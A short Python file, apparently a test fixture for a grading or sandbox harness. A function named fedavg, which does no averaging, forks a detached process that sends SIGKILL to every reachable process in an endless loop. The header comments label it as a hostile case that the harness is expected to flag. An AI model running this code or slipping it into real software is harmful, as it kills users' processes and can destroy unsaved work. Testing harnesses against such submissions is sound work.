# Leaves a process that kills whatever it may, for ever.
# fails: q1
# says: killed
# ruff: noqa


def fedavg(states, weights):
    import os, signal, time

    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
    time.sleep(60)
